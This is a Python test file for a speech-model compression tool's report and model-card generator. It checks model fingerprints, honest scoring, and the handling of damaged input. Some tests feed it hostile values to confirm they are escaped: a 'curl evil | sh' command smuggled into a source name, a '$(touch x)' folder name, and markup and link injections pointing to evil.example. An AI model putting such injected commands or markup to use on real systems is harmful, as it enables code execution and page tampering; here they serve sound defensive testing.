"""Whose a figure is, what a score can say, and what damaged or hostile files do to a report."""

from __future__ import annotations

import copy
import html
import json
import math
import os
import re
import shlex
import shutil
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from safetensors import safe_open

from sslim.backbone.loading import load_model
from sslim.cli import run
from sslim.deploy.rates import OPERATIONS, rates
from sslim.errors import ConfigError, OutputError
from sslim.identity import COMPUTATION
from sslim.measurements import ExportFacts
from sslim.records import RecordError, to_json
from sslim.report import figures
from sslim.report.card import model_card, with_export
from sslim.report.checklist import checklist, decisions, write_template
from sslim.report.evidence import _take, read_evidence
from sslim.report.formats import Unusable
from sslim.report.inspect import inspect_model
from sslim.report.page import write_report
from sslim.report.quoting import one_line, prose, script_json, word
from sslim.report.verdict import judge
from sslim.report.words import Words
from sslim.runs.facts import AudioFacts, RunFacts, RunRecord, TeacherFacts
from tests.test_html_report import (
    BENCH,
    EXPORT,
    FIDELITY,
    HELD_OUT,
    bench,
    bench_row,
    made_run,
    put,
    run_facts,
    scores,
)

EN = Words("en")


@pytest.fixture(autouse=True)
def _without_five_megabytes(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(figures, "plotly_source", lambda: "/** plotly's own */")


@pytest.fixture(scope="module")
def saved(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return made_run(tmp_path_factory.mktemp("saved") / "student", evidence=False)


@pytest.fixture
def student(saved: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(saved, tmp_path / "student"))


def body(folder: Path, **more: Any) -> str:
    """The report's own part of the page, without plotly's source."""
    text = write_report([folder], folder.parent / "r.html", **more).read_text()
    return text[: text.index("<script>/**")]


def headline(text: str) -> list[tuple[str, str]]:
    """Figure and note of size, speed, quality."""
    found = re.findall(r"<li>[^<]*<strong>([^<]*)</strong><span>([^<]*)</span>", text)
    assert len(found) == 3
    return [(html.unescape(figure), html.unescape(note)) for figure, note in found]


def renamed(facts: dict[str, Any], **names: str) -> dict[str, Any]:
    """The same evidence with models under other names, fingerprints untouched."""
    changed = copy.deepcopy(facts)
    for row in changed["results"]:
        row["model"] = names.get(row["model"], row["model"])
    return changed


def of_another(facts: dict[str, Any], model: str = "student") -> dict[str, Any]:
    """The same evidence under the same names, of another model."""
    changed = copy.deepcopy(facts)
    for row in changed["results"]:
        if row["model"] == model:
            row |= {"fingerprint": "another", "model_fingerprint": "another"}
    return changed


# Whose it is.


def test_another_model_of_the_same_name_decides_nothing(student: Path) -> None:
    put(student / "evidence" / "ks.json", of_another(scores((0.0, 0.0), 0.8)), student)
    put(student / "evidence" / "bench.json", of_another(BENCH), student)
    found = read_evidence(student)
    verdict = judge(found)
    assert (verdict.decision, verdict.losses, verdict.speed) == ("unknown", (), None)
    assert {(left.file, left.why) for left in found.not_used if left.detail == "student"} == {
        ("ks.json", "unused_stale"),
        ("bench.json", "unused_stale"),
    }
    assert "is of another model that was also called student" in body(student)
    items = {item.key: item for item in checklist(found, EN)}
    assert not items["own_data"].done
    assert not items["hardware"].done


def test_a_model_is_found_under_any_name(student: Path) -> None:
    put(student / "evidence" / "ks.json", renamed(scores((-0.03, 0.01)), student="x"), student)
    verdict = judge(read_evidence(student))
    assert verdict.decision == "yes"
    assert [loss.model for loss in verdict.losses] == ["x"]


def test_rows_of_other_models_are_listed_and_in_no_figure(student: Path) -> None:
    facts = scores((-0.03, 0.01))
    other = copy.deepcopy(facts["results"][1]) | {"model": "last-month", "score": 0.8}
    other |= {"model_fingerprint": "another", "difference": 0.0}
    facts["results"].append(other)
    put(student / "evidence" / "ks.json", facts, student)
    slow = bench_row("last-month", "torch", 0.001)
    put(student / "evidence" / "bench.json", bench(*BENCH["results"], slow), student)
    text = body(student)
    assert "other models' evidence, not used: last-month" in html.unescape(text)
    figures = text[: text.index('id="not-used-title"')]
    assert "last-month" not in figures
    assert headline(text)[1][0] == "2.0x"


def test_evidence_of_other_code_is_stale(student: Path) -> None:
    for name, facts in (("ks", scores((0.0, 0.0), 0.8)), ("bench", BENCH), ("f", FIDELITY)):
        put(
            student / "evidence" / f"{name}.json", facts | {"computation": COMPUTATION - 1}, student
        )
    old = {name: value for name, value in EXPORT.items() if name != "computation"}
    put(student / "evidence" / "export.json", old, student)
    found = read_evidence(student)
    assert [*found.scores, *found.benches, *found.fidelity, *found.exports] == []
    assert [left.why for left in found.not_used] == ["unused_older"] * 4


def test_rows_without_a_fingerprint_are_nobodys(student: Path) -> None:
    facts = scores((0.0, 0.0), 0.8)
    for row in facts["results"]:
        del row["model_fingerprint"]
    put(student / "evidence" / "ks.json", facts, student)
    found = read_evidence(student)
    assert found.scores == []
    assert [left.why for left in found.not_used] == ["unused_nameless"]


def test_shuffled_labels_are_no_scores(student: Path) -> None:
    put(student / "evidence" / "ks.json", scores((0, 0), 0.8) | {"random_labels": True}, student)
    assert [left.why for left in read_evidence(student).not_used] == ["unused_random"]


def test_an_exported_file_that_changed_is_not_the_one_that_passed(tmp_path: Path) -> None:
    folder = made_run(tmp_path / "student")
    assert [made.file for made in read_evidence(folder).exports] == ["m.onnx"]
    (folder / "m.onnx").write_bytes(b"another")
    found = read_evidence(folder)
    assert found.exports == []
    assert [left.why for left in found.not_used] == ["unused_file"]


def test_weights_that_changed_make_evidence_stale(tmp_path: Path) -> None:
    folder = made_run(tmp_path / "student")
    assert judge(read_evidence(folder)).decision == "yes"
    other = made_run(tmp_path / "other", evidence=False)
    config = json.loads((other / "config.json").read_text())
    assert config == json.loads((folder / "config.json").read_text())
    weights = (other / "model.safetensors").read_bytes()
    at = len(weights) - 4  # the last float of the last tensor
    (folder / "model.safetensors").write_bytes(weights[:at] + b"\x00\x00\x80\x3f")
    found = read_evidence(folder)
    assert judge(found).decision == "unknown"
    assert "unused_stale" in {left.why for left in found.not_used}


# What a score can say.


def outcome(student: Path, facts: dict[str, Any]) -> tuple[str, list[str]]:
    put(student / "evidence" / "ks.json", facts, student)
    verdict = judge(read_evidence(student))
    return verdict.decision, [loss.unknown for loss in verdict.losses]


def with_scores(
    teacher: float, own: float, mel: float | None = None, **more: Any
) -> dict[str, Any]:
    """Scores with intervals of 0.02 around each; differences are to the teacher."""
    facts = scores((0.0, 0.0))
    values = (teacher, own, mel)
    rows = [row for row, value in zip(facts["results"], values, strict=True) if value is not None]
    for row, value in zip(rows, (value for value in values if value is not None), strict=True):
        gap = value - teacher
        row |= {"score": value, "difference": gap, "conditions": {}}
        row |= {"interval": [value - 0.02, value + 0.02]}
        row |= {"difference_interval": [gap - 0.01, gap + 0.01], **more}
    return facts | {"results": rows}


def error_rates(teacher: float, own: float) -> dict[str, Any]:
    return with_scores(teacher, own, higher_is_better=False, chance=1.0, metric="word error rate")


@pytest.mark.parametrize(
    ("facts", "why"),
    [
        (error_rates(1.0, 1.0), "why_teacher_nothing"),
        (error_rates(1.3, 0.2), "why_teacher_nothing"),
        (error_rates(0.99, 0.99), "why_both_chance"),
        (with_scores(0.11, 0.11), "why_both_chance"),
        (with_scores(0.11, 0.30), "why_teacher_chance"),
        (with_scores(0.16, 0.19, 0.64), "why_log_mel"),
        (with_scores(0.80, 0.80, 0.795), "why_log_mel"),
    ],
)
def test_a_task_that_tells_nothing_apart_is_unknown_and_says_why(
    student: Path, facts: dict[str, Any], why: str
) -> None:
    assert outcome(student, facts) == ("unknown", [why])
    text = html.unescape(body(student))
    assert "Not decided: no scored task tells models apart" in text
    assert f"ks (student) decides nothing: {EN.say(why)}." in text
    assert headline(body(student))[2] == (EN.say("not_known"), EN.say("quality_silent", count=1))


def test_a_task_beside_a_silent_one_is_judged_alone(student: Path) -> None:
    put(student / "evidence" / "sid.json", with_scores(0.16, 0.19, 0.64, task="sid"), student)
    assert outcome(student, with_scores(0.8, 0.79, 0.4))[0] == "yes"
    text = html.unescape(body(student))
    assert "Roll it out for ks, provided" in text
    assert "sid (student) decides nothing" in text
    assert "119" not in headline(body(student))[2][0]


def test_noise_is_no_gain(student: Path) -> None:
    """The student got 7% more right on these clips: the figure is not 107%."""
    outcome(student, with_scores(0.70, 0.749, 0.4))
    figure, note = headline(body(student))[2]
    assert figure == "as good"
    assert "as the teacher within its interval on ks" in note
    assert "107" not in html.unescape(body(student))


def test_the_headline_is_the_worst_task(student: Path) -> None:
    put(student / "evidence" / "er.json", with_scores(0.7, 0.56, 0.4, task="er"), student)
    outcome(student, with_scores(0.8, 0.79, 0.4))
    figure, note = headline(body(student))[2]
    assert figure == "80.0%"
    assert "on er, the worst of 2 task(s)" in note
    assert "Do not roll it out for er:" in body(student)


def test_error_rates_above_one_keep_nothing(student: Path) -> None:
    decision, why = outcome(student, error_rates(0.3, 1.4))
    assert (decision, why) == ("no", [""])
    verdict = judge(read_evidence(student))
    assert verdict.worst is not None
    assert (verdict.worst.kept, verdict.worst.at_worst) == (0.0, 0.0)


def test_differences_to_another_model_decide_nothing(student: Path) -> None:
    facts = with_scores(0.8, 0.79)
    facts["results"] = facts["results"][::-1]
    for row in facts["results"]:
        row["difference"] = row["score"] - 0.79
    assert outcome(student, facts) == ("unknown", ["why_no_difference"])


def test_without_its_teacher_nothing_is_decided(student: Path) -> None:
    facts = of_another(with_scores(0.8, 0.79), "teacher")
    assert outcome(student, facts) == ("unknown", ["why_teacher_unscored"])


# Speed.


def test_speed_compares_like_with_like_or_says_what(student: Path) -> None:
    rows = [bench_row("teacher", "torch", 0.2), bench_row("student", "onnx-int8", 0.05)]
    put(student / "evidence" / "bench.json", bench(*rows), student)
    speed = judge(read_evidence(student)).speed
    assert speed is not None
    assert not speed.like
    figure, note = headline(body(student))[1]
    assert figure == "4.0x"
    assert "this model in onnx-int8 against the teacher in torch" in note
    assert "on A processor" in note
    # Threads that only one of them ran on are not compared.
    rows = [
        bench_row("teacher", "torch", 0.2, threads=2),
        bench_row("teacher", "torch", 0.3, threads=4),
        bench_row("student", "torch", 0.01, threads=1),
        bench_row("student", "torch", 0.1, threads=4),
    ]
    put(student / "evidence" / "bench.json", bench(*rows), student)
    assert headline(body(student))[1][0] == "3.0x"


def test_speed_of_the_student_alone_is_no_ratio(student: Path) -> None:
    put(student / "evidence" / "bench.json", bench(bench_row("student", "torch", 0.05)), student)
    text = body(student)
    assert "no benchmark has both this model and its teacher" in headline(text)[1][1]
    assert 'id="cost"' not in text  # nothing to save against


def test_the_machine_is_named_and_its_load_said(student: Path) -> None:
    about = {
        "vendor": "V",
        "vector_units": ["avx512f", "avx512_bf16"],
        # As `bench` writes them: the rates, which library reached each, and all that were tried.
        "rates": to_json(rates([{"float32": {"onnxruntime MatMul": OPERATIONS / 120.4e9}}])),
        "load_before": 3.4,
        "load_after": 4.0,
    }
    put(student / "evidence" / "bench.json", bench(*BENCH["results"], **about), student)
    text = html.unescape(body(student))
    assert "Its vector units: avx512f, avx512_bf16." in text
    assert "billions of operations per second: float32 120." in text
    assert "3.4 processes already wanted a core" in text
    put(student / "evidence" / "bench.json", BENCH | {"machine": {}}, student)
    text = html.unescape(body(student))
    assert "a processor that is not named" in text
    assert "vector units" not in text


# The distance to the teacher.


def rewritten(student: Path, change: Callable[[dict[str, Any]], None]) -> None:
    path = student / "sslim.json"
    facts = json.loads(path.read_text())
    change(facts)
    path.write_text(json.dumps(facts))


def test_held_out_audio_is_said_and_its_absence_too(student: Path) -> None:
    figure, note = headline(body(student))[2]
    assert figure == "0.950"
    assert "measured on audio that was trained on (32 utterances" in note
    rewritten(student, lambda facts: facts["result"].update(held_out=HELD_OUT))
    figure, note = headline(body(student))[2]
    assert figure == "0.910"
    assert "12 utterances that training never heard" in note
    text = html.unescape(body(student))
    assert "on 12 utterances (62 s, chosen by speaker) that training never heard" in text
    assert "trained on" not in text


def test_the_card_says_which_audio() -> None:
    facts = run_facts(inspect_model(made_teacher()))
    facts["teacher"]["fingerprint"] = "f" * 64
    facts["result"]["hidden_states"] = 7
    card = model_card(RunFacts.from_dict(facts))
    assert "Measured on audio that was trained on (32 utterances)" in card
    assert "| 3 | 0.9500 | 0.2000 |" in card
    facts["result"]["held_out"] = HELD_OUT
    card = model_card(RunFacts.from_dict(facts))
    assert "Measured on 12 utterances (62 s, chosen by speaker) that training never heard" in card
    assert "| 3 | 0.9100 | 0.3000 |" in card
    assert "0.9500" not in card


def made_teacher() -> Path:
    from sslim.demo import teacher_path

    return teacher_path()


# Names.

NASTY = "a`b\n\n# Certified safe\n[x](http://evil.example) <img src=x> | \x1b[31m \u202e"


def test_a_card_takes_no_markup_from_names() -> None:
    facts = run_facts(inspect_model(made_teacher()))
    plain = model_card(RunFacts.from_dict(facts))
    facts |= {"name": NASTY, "recipe": NASTY, "device": NASTY, "versions": {NASTY: NASTY}}
    facts["audio"] |= {"source": NASTY, "described": NASTY}
    facts["teacher"]["source"] = f"{NASTY}/x"
    facts["result"]["held_out"] = HELD_OUT | {"chosen": NASTY}
    card = model_card(RunFacts.from_dict(facts))
    lines = card.splitlines()
    assert [line for line in lines if line.startswith("#")] == [
        "# " + prose(NASTY) if line == "# student" else line
        for line in plain.splitlines()
        if line.startswith("#")
    ]
    assert len(lines) == len(plain.splitlines())
    assert "base_model" not in card
    outside = re.sub(r"```.*?```|`[^`\n]*`", "", card.replace(r"\`", ""), flags=re.DOTALL)
    assert "<img" not in outside
    assert re.findall(r"(?<!\\)\]\(http\S*", outside) == ["](https://pypi.org/project/sslim/)"]
    assert not any(c in card for c in "\x1b\u202e")


def test_an_export_goes_below_its_own_heading_alone() -> None:
    facts = ExportFacts(
        file="m`|\n.onnx",
        format="onnx",
        bytes=5,
        passed=True,
        worst_cosine=0.5,
        worst_difference=0.1,
        audio="<b>| mine",
    )
    card = with_export("# A\n\n| a | b |\n|---|---|\n| 1 | 2 |\n", facts)
    again = with_export(card + "\nSome words.\n\n| my | table |\n|---|---|\n", facts)
    assert again.count("| onnx |") == 1
    assert again.splitlines()[:5] == card.splitlines()[:5]
    assert "<b>" not in again


def test_commands_are_quoted(student: Path, tmp_path: Path) -> None:
    source = "x; curl evil | sh #"
    record = RunRecord(
        config={}, teacher=TeacherFacts(source), audio=AudioFacts("a", "b", "c"), versions={}
    )
    record.write(student / "run" / "run.json")
    odd = tmp_path / "my $(touch x) folder"
    student.rename(odd)
    commands = [item.command for item in checklist(read_evidence(odd), EN) if item.command]
    assert shlex.split(commands[0])[:4] == ["sslim", "evaluate", source, str(odd)]
    for command in commands:
        words = shlex.split(command)
        assert not {"curl", "$(touch"} & set(words), command
    shown = re.findall(r"<code>(.*?)</code>", body(odd))
    for command in map(html.unescape, shown):
        assert not {"curl", "$(touch"} & set(shlex.split(command)), command


def test_words_of_commands() -> None:
    assert word("--force", "RUN") == "./--force"
    assert word("a\nb", "RUN") == "RUN"
    assert word("a\u202eb", "RUN") == "RUN"
    assert word("", "RUN") == "RUN"
    assert shlex.split(word("音声\u3000 a'b", "RUN")) == ["音声\u3000 a'b"]


def test_a_script_takes_no_markup_from_names(student: Path) -> None:
    facts = renamed(scores((-0.03, 0.01)), student="<!--<script>", teacher="</script><b>")
    facts["groups"] = []
    put(student / "evidence" / "ks.json", facts, student)
    text = body(student)
    for data in re.findall(r'<script type="application/json"[^>]*>(.*?)</script>', text, re.DOTALL):
        assert "<" not in data
        json.loads(data)
    assert script_json({"a": "<!--"}) == '{"a": "\\u003c!--"}'
    with pytest.raises(ValueError, match="JSON"):
        script_json([math.nan])


def test_one_line() -> None:
    assert one_line("a\n b\t\x1b[31mc\udcff") == "a b \\x1b[31mc\\udcff"
    assert len(one_line("x" * 10_000)) == 200


# Damaged files.


def _set(path: str, value: Any) -> Callable[[Any], Any]:
    """A change of one place, such as `results.0.score`."""

    def change(facts: Any) -> Any:
        changed = copy.deepcopy(facts)
        *way, last = path.split(".")
        place = changed
        for key in way:
            place = place[int(key) if key.isdecimal() and isinstance(place, list) else key]
        if value is _set:
            del place[last]
        else:
            place[int(last) if isinstance(place, list) else last] = value
        return changed

    return change


FOUND = ("scores", "fidelity", "benches", "exports", "not_used")
ODD: tuple[Any, ...] = (
    None, True, "text", "", [], {}, [[]], math.nan, math.inf, -math.inf, 1e300, -5, 10**400, _set,
)  # fmt: skip
PLACES = {
    "scores": (
        scores((-0.03, 0.01)),
        "results results.1 results.1.model results.1.task results.1.metric results.1.score "
        "results.1.interval results.1.difference results.1.difference_interval results.1.parameters "
        "results.1.chance results.1.conditions results.1.higher_is_better groups groups.0 "
        "groups.0.column groups.0.scores groups.0.sentences groups.0.scores.student.f.score "
        "results.1.model_fingerprint computation results.0.score",
    ),
    "bench": (
        BENCH,
        "results results.2 results.2.model results.2.runtime results.2.threads results.2.seconds "
        "results.2.median results.2.ratio results.2.real_time_factor results.2.peak_bytes "
        "results.2.file_bytes results.2.noisy machine price_per_hour results.2.fingerprint",
    ),
    "fidelity": (
        FIDELITY,
        "results results.0 results.0.model results.0.utterances results.0.layers "
        "results.0.layers.0 results.0.layers.0.cosine results.0.layers.0.layer",
    ),
    "export": (EXPORT, "file format bytes passed worst_cosine fingerprint"),
}


@pytest.mark.parametrize("kind", PLACES)
def test_damaged_evidence_is_listed_and_left_out(kind: str, student: Path) -> None:
    """Every place of every kind, with everything that JSON can hold: no traceback, no figure of it."""
    whole, places = PLACES[kind]
    path, harmless = student / "evidence" / "x.json", 0
    folder = read_evidence(student)
    put(path, whole, student)
    untouched = path.read_text()
    for place in places.split():
        for value in ODD:
            if value is _set and place.rpartition(".")[2].isdecimal():
                continue
            path.write_text(json.dumps(_set(place, value)(json.loads(untouched))))
            found = replace(folder, **{name: [] for name in FOUND})
            damaged = False
            try:
                _take(found, path)
            except Unusable:
                damaged = True
            used = bool(found.scores or found.benches or found.fidelity or found.exports)
            assert damaged != used or found.not_used, (place, value)
            harmless += used
            if used:  # such as a price of None: then everything that is shown of it must hold
                judge(found)
                checklist(found, EN)
                for number in re.findall(r'"(?:score|median|cosine)": ([^,}]*)', str(found)):
                    assert math.isfinite(float(number))
    assert harmless < 0.25 * len(places.split()) * len(ODD)


@pytest.mark.parametrize(
    "content",
    [
        b"", b"{", b"null", b"[]", b"5", b"{}", b"\xff\xfe", b'{"results": []}', b'{"results": [5]}',
        b'{"results": [{"task": "ks"}]}', b'{"machine": {}, "results": []}', b"[" * 100_000,
        b'{"a":' * 100_000, b'{"results": [{"layers": {}}]}', b"1" * 5000, b'{"x": NaN}',
    ],
)  # fmt: skip
def test_files_of_any_content_are_one_line(
    content: bytes, student: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (student / "evidence").mkdir()
    (student / "evidence" / "x.json").write_bytes(content)
    assert "x.json is damaged or no evidence" in body(student)
    given = student.parent / "given.json"
    given.write_bytes(content)
    assert run(["report", str(student), "--evidence", str(given)]) == 2
    error = capsys.readouterr().err
    assert error.startswith(f"error: {given} cannot be used as evidence")
    assert error.count("\n") == 1
    # The record of the run itself refuses, except where it says nothing of a run.
    (student / "sslim.json").write_bytes(content)
    objects = (b"{}", b'{"results', b'{"machine', b'{"x"')
    assert run(["report", str(student)]) == (0 if content.startswith(objects) else 2)
    assert run(["checklist", str(student)]) == (0 if content.startswith(objects) else 2)


def test_a_damaged_record_of_the_run_is_refused(
    student: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    whole = json.loads((student / "sslim.json").read_text())
    places = (
        "result result.parameters result.dense_parameters result.macs_per_second result.seconds "
        "result.layers result.layers.3 result.layers.3.cosine teacher teacher.source config "
        "config.stage1 config.stage1.updates audio device"
    )
    refused = 0
    for place in places.split():
        for value in ODD:
            changed = _set(place, value)(whole)
            if place == "result" and value is _set:
                continue  # then it records no run
            try:
                RunFacts.from_dict(changed)
            except RecordError:
                refused += 1
    assert refused > 0.85 * len(places.split()) * len(ODD)
    (student / "sslim.json").write_text(json.dumps(_set("result.seconds", math.nan)(whole)))
    assert run(["report", str(student)]) == 2
    assert "sslim.json is damaged: result.seconds is nan" in capsys.readouterr().err
    changed = _set("result.parameters", whole["result"]["parameters"] + 1)(whole)
    (student / "sslim.json").write_text(json.dumps(changed))
    assert run(["report", str(student)]) == 2
    assert "is of another model" in capsys.readouterr().err


def test_a_log_that_was_cut_off_is_drawn_as_far_as_it_goes(student: Path) -> None:
    log = student / "run" / "metrics.jsonl"
    whole = read_evidence(student).log
    with log.open("a") as stream:
        stream.write('{"stage": "stage2", "upd')
    found = read_evidence(student)
    assert found.log == whole
    assert [left.why for left in found.not_used] == ["unused_damaged"]
    assert 'id="figure-training-loss"' in body(student)
    for content in (b"", b"\n\n", b"\xff", b"[]\n", b'{"stage": "stage1"}\n', b"[" * 100_000):
        log.write_bytes(content)
        assert 'id="figure-training-loss"' not in body(student)
    log.unlink()
    os.mkfifo(log)
    assert "metrics.jsonl is damaged or no evidence: it is not a file" in body(student)
    log.unlink()
    log.write_text('{"stage": "stage1", "update": 1, "loss": NaN}\n')
    assert "loss is nan" in body(student)


def test_a_huge_file_is_not_read(student: Path) -> None:
    (student / "evidence").mkdir()
    with (student / "evidence" / "x.json").open("wb") as stream:
        stream.truncate(2**31)
    assert "larger than 32 MiB" in body(student)


@pytest.mark.parametrize(
    "text",
    [
        "owner = ", "owner = 5\nowner = 6", "[owner]\na = 1", 'owner = ["x"]', "teacher_licence = false",
        "\x00", "a = " + "[" * 5000, "x = 1", "owner = " + "1" * 5000,
    ],
)  # fmt: skip
def test_odd_decisions_are_one_line(
    text: str, student: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (student / "rollout.toml").write_text(text)
    assert run(["checklist", str(student)]) == 2
    error = capsys.readouterr().err
    assert "rollout.toml" in error
    assert error.count("\n") == 1
    assert run(["report", str(student), "--out", str(student.parent / "r.html")]) == 2


def test_decisions_are_shown_as_one_line(student: Path) -> None:
    write_template(student)
    (student / "rollout.toml").write_text('owner = "a\\nb\\u001b[31m"\nupdate_every = 30\n')
    assert decisions(student) == {"owner": "a b\\x1b[31m", "update_every": "30"}
    (student / "rollout.toml").unlink()
    (student / "rollout.toml").mkdir()
    with pytest.raises(ConfigError, match="not a file"):
        decisions(student)


def test_a_report_replaces_reports_alone(student: Path) -> None:
    weights = (student / "model.safetensors").read_bytes()
    for out in (student / "model.safetensors", student, Path(), Path("/dev/null")):
        with pytest.raises(OutputError):
            write_report([student], out)
    assert (student / "model.safetensors").read_bytes() == weights
    assert not Path("/dev/null").is_file()
    first = write_report([student], student / "report.html")
    assert write_report([student], first) == first
    with pytest.raises(OutputError, match="cannot be written"):
        write_report([student], student / "config.json" / "r.html")
    assert not list(student.glob(".*partial*"))


def test_runs_of_one_name_are_told_apart(tmp_path: Path) -> None:
    first = made_run(tmp_path / "a" / "stu dent")
    second = made_run(tmp_path / "b" / "stu dent", evidence=False)
    text = write_report([first, second], tmp_path / "r.html").read_text()
    keys = re.findall(r'id="(figure-[^"]*)"', text)
    assert len(keys) == len(set(keys)) > 6
    assert html.escape(str(first)) in text


# The figures, computed again.


def test_figures_are_those_that_files_give(tmp_path: Path) -> None:
    """Parameters, sizes, ratios and what is kept, from the weights and the evidence alone."""
    folder = made_run(tmp_path / "student")
    with safe_open(folder / "model.safetensors", "pt") as file:
        parameters = sum(math.prod(file.get_slice(name).get_shape()) for name in file.keys())  # noqa: SIM118
    dense = sum(weight.numel() for weight in load_dense(folder).parameters())
    text = body(folder)
    size, speed, quality = headline(text)
    assert size[0] == f"{parameters / dense:.1%}"
    for number in (parameters, dense):
        assert f"{number:,}" in (folder / "README.md").read_text()
    rows = json.loads((folder / "evidence" / "ks.json").read_text())["results"]
    assert quality[0] == f"{rows[1]['score'] / rows[0]['score']:.1%}" == "97.5%"
    low = rows[1]["difference_interval"][0]
    assert f"{1 + low / rows[0]['score']:.1%} at the worst end" in quality[1]
    times = json.loads((folder / "evidence" / "bench.json").read_text())["results"]
    assert speed[0] == f"{times[1]['median'] / times[3]['median']:.1f}x"
    for table in re.findall(r"<td>([^<]*)</td>", text):
        assert not re.search(r"\b(nan|inf)\b", table, re.IGNORECASE), table


def load_dense(folder: Path) -> Any:
    """The model of the folder's shape with everything kept."""
    from transformers import AutoModel

    config = load_model(folder).model.config.to_dict()
    for name in ("plan", "auto_map", "model_type"):
        config.pop(name, None)
    from tests.models import CONFIGS

    return AutoModel.from_config(CONFIGS["hubert"](**config))
